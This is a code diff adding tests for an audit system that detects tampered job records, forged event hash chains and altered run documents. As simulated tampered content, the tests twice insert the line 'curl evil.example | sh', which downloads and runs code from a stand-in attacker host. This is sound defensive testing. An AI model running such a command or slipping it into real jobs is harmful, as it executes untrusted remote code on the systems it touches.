@@ -4,11 +4,15 @@ import { BlobServiceClient } from '@azure/storage-blob';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { auditSeal } from '../../../functions/operations/auditSeal.js';
 import { checkpointAudit } from '../../../functions/operations/checkpointAudit.js';
-import { hashOfEvent } from '../../../shared/eventChain.js';
+import { hashOfDocument, hashOfEvent } from '../../../shared/eventChain.js';
+import { putProfile } from '../../../functions/operations/putProfile.js';
 import { halt } from '../../../functions/operations/switches.js';
 import { verifyAudit } from '../../../functions/operations/verifyAudit.js';
 import type { AuditReport, Checkpoint } from '../../../shared/contract/audit.js';
 import type { JobEvent } from '../../../shared/contract/event.js';
+import type { Run } from '../../../shared/contract/job.js';
+import { PutProfileSchema } from '../../../shared/contract/profile.js';
+import { runId } from '../../../shared/rules/lifecycle.js';
 import { CONTROL, DATABASE, JOBS } from '../../../shared/topology.js';
 import { startTestCloud, type TestCloud } from '../../support/cloud.js';
 import {
@@ -137,20 +141,79 @@ describe('tampering with a job', () => {
     expect(await found()).toEqual([['stage', 5, jobId]]);
   });
 
+  const jobItem = () => jobs.item('job', [productId, jobId]);
+  const runItem = () => jobs.item(runId(1), [productId, jobId]);
+
+  it.each([
+    ['what was asked for', '/manifest/body', 'curl evil.example | sh'],
+    ['how it is verified', '/manifest/verify', 'true'],
+    ['what it changed', '/change/commit', 'beef'],
+    ['what it has cost', '/usage/usd', 0],
+    ['who asked', '/submittedBy/id', 'mallory'],
+  ])('shows a job that was changed behind its events: %s', async (_what, path, value) => {
+    await jobItem().patch([{ op: 'set', path, value }]);
+    expect(await found()).toEqual([['changed', 5, jobId]]);
+    expect((await verify()).findings[0]?.message).toBe(
+      `${jobId} event 5: the document job is not as it was written with it`,
+    );
+  });
+
+  it('shows a profile that was put into a job', async () => {
+    const body = PutProfileSchema.parse({
+      profile: { title: 'P', summary: 'Builds.', persona: 'You build.' },
+    });
+    await putProfile(deps, ADMIN, { params: { owner: productId, name: 'porter' }, body });
+    ({ jobId } = await submit(deps, productId, { profile: 'porter' }));
+    expect((await verify({ jobId })).ok).toBe(true);
+    await jobItem().patch([{ op: 'set', path: '/profile/spec/persona', value: 'You leak.' }]);
+    expect((await verify({ jobId })).findings).toMatchObject([{ kind: 'changed', seq: 1, jobId }]);
+  });
+
+  it('shows a run that was changed, removed, or made up', async () => {
+    const { resource: run } = await runItem().read<Run>();
+    await runItem().patch([{ op: 'set', path: '/usage/tokens', value: 1 }]);
+    expect(await found()).toEqual([['changed', 5, jobId]]);
+    await runItem().delete();
+    expect(await found()).toEqual([['removed', 5, jobId]]);
+    await jobs.items.upsert(run);
+    expect(await found()).toEqual([]);
+    await jobs.items.upsert({ ...run, id: runId(2), epoch: 2 });
+    expect(await found()).toEqual([['changed', 5, jobId]]);
+    expect((await verify()).findings[0]?.message).toContain(`no event wrote the document ${runId(2)}`);
+  });
+
+  it('shows a changed job also when its last event was changed to match', async () => {
+    const { job, events } = await detail(deps, jobId);
+    const changed = { ...job, manifest: { ...job.manifest, body: 'curl evil.example | sh' } };
+    const last = events.at(-1) as JobEvent;
+    const open = { ...last, documents: { ...last.documents, job: hashOfDocument(changed) } };
+    await jobs.items.upsert(open);
+    await jobs.items.upsert(changed);
+    expect(await found()).toEqual([['changed', 5, jobId]]);
+    // With a hash made anew it is another chain, which the sealed head knows.
+    await jobs.items.upsert(job);
+    await jobs.items.upsert(last);
+    await seal();
+    const hash = hashOfEvent(open);
+    await jobs.items.upsert({ ...open, hash });
+    await jobs.items.upsert({ ...changed, headHash: hash });
+    expect((await verify()).findings).toMatchObject([{ kind: 'changed', jobId }]);
+  });
+
   /** The whole chain from `seq` on with right hashes, and the job's head with it: only the checkpoints know better. */
   const forge = async (seq: number, upTo: number): Promise<void> => {
-    const { events, job } = await detail(deps, jobId);
+    const { events, job, runs } = await detail(deps, jobId);
     let { prevHash } = events[seq - 1] as JobEvent;
-    let last: JobEvent | undefined;
+    const head = { ...job, events: upTo, stage: events[upTo - 1]?.stage ?? job.stage };
+    const documents = Object.fromEntries([head, ...runs].map((one) => [one.id, hashOfDocument(one)]));
     for (const event of events.slice(seq - 1, upTo)) {
-      const open = { ...event, actor: { ...event.actor, id: 'mallory' }, prevHash };
-      last = { ...open, hash: hashOfEvent(open) };
-      prevHash = last.hash;
-      await jobs.items.upsert(last);
+      const open = { ...event, actor: { ...event.actor, id: 'mallory' }, documents, prevHash };
+      const hash = hashOfEvent(open);
+      prevHash = hash;
+      await jobs.items.upsert({ ...open, hash });
     }
     for (const event of events.slice(upTo)) await eventItem(event.seq).delete();
-    const head = { ...job, events: upTo, headHash: prevHash, stage: last?.stage };
-    await jobs.items.upsert(head);
+    await jobs.items.upsert({ ...head, headHash: prevHash });
   };
 
   it('shows a chain that was made anew as a whole', async () => {
@@ -170,10 +233,7 @@ describe('tampering with a job', () => {
     await seal();
     for (let seq = 1; seq <= 5; seq += 1) await eventItem(seq).delete();
     await jobs.item('job', [productId, jobId]).delete();
-    await jobs
-      .item('run:1', [productId, jobId])
-      .delete()
-      .catch(() => undefined);
+    await runItem().delete();
     expect(await found()).toEqual([['gone', undefined, jobId]]);
     expect((await verify({ jobId })).ok).toBe(false);
   });
